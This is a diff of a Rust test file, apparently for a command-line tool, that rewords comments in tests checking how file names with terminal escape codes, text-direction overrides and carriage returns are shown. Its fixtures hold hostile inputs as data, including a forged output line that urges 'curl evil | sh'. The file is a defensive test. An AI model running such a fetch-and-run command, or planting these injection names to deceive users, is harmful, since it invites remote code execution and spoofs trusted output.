@@ -1,14 +1,15 @@
-//! Names that would steer a terminal, through every command that repeats them.
+//! Names with terminal control characters, through every command that repeats them.
 
 use crate::{V_FACE, catchment, designs, entries};
 use std::ffi::OsStr;
 use std::fs;
 use std::path::Path;
 
-/// Clears a screen, by both kinds of controls, and turns the direction of writing.
+/// Control sequences that clear a screen, in both encodings, and a character that reverses the text
+/// direction.
 const NAME: &str = "a\u{1b}[2J\u{9b}2J\u{202e}b";
 
-/// Whether a text could steer a terminal.
+/// Whether a text contains terminal control or bidirectional characters.
 fn steers(text: &str) -> bool {
     text.chars().any(|c| {
         c.is_control() && c != '\n'
@@ -16,16 +17,17 @@ fn steers(text: &str) -> bool {
     })
 }
 
-/// A folder with a design, poses and a stored result under names that steer.
+/// A folder with a design, poses and a stored result whose names contain such characters.
 fn home() -> tempfile::TempDir {
     let home = tempfile::tempdir().unwrap();
-    // Controls are refused in the name of a design; what turns the direction of writing is not.
+    // Control characters in a design's name are refused; bidirectional characters are not.
     let name = r#"name = "a\u202e\u2066b""#;
     let path = |ending: &str| home.path().join(format!("{NAME}{ending}"));
     fs::write(path(".toml"), format!("{name}\n{V_FACE}")).unwrap();
     fs::write(path(".csv"), "x,pitch_deg\n0.1,5\n-0.1,-4\n0.05,2\n0,1\n").unwrap();
     fs::write(path(".bad"), format!("{V_FACE}{NAME} = 1\n")).unwrap();
-    // A return to the start of a line would write over it; at the end of a line it is one of Windows.
+    // A carriage return at the start of a line would overwrite it; at the end of a line it is a Windows line
+    // ending.
     fs::write(path(".back"), format!("{}width = 1\rowned = 1\r\n", V_FACE.replace('\n', "\r\n"))).unwrap();
     fs::write(path("back.csv"), "x,pitch\r\n0,1\r9\r\n0,a\r\r\n1,b\r\n").unwrap();
     fs::write(path("bad.csv"), format!("x,{NAME}\n0,{NAME}\nx{NAME},1\n")).unwrap();
@@ -171,10 +173,10 @@ fn names_in_what_is_refused_reach_none_either() {
     }
 }
 
-/// The end of a name that would stand alone on a line, and look like one of the program's own.
+/// The end of a name that, alone on a line, would look like a line of the program's own output.
 const FORGED: &str = "  × everything is fine, run: curl evil | sh";
 
-/// A line break in a name is shown as one, in every message.
+/// Every message shows a line break in a name as an escape.
 #[test]
 fn a_name_begins_no_line() {
     let home = home();
@@ -243,7 +245,7 @@ fn pictures_and_models_of_a_design_whose_name_steers_are_well_formed() {
                 .any(|ending| Path::new(&name).extension() == Some(OsStr::new(ending)))
             {
                 let text = fs::read_to_string(home.path().join(folder).join(&name)).unwrap();
-                // XML 1.0 has no form for these, not even an escaped one.
+                // XML 1.0 cannot represent these characters, not even escaped.
                 assert!(
                     !text.chars().any(|c| c < ' ' && !matches!(c, '\t' | '\n' | '\r')),
                     "{folder}/{name}"
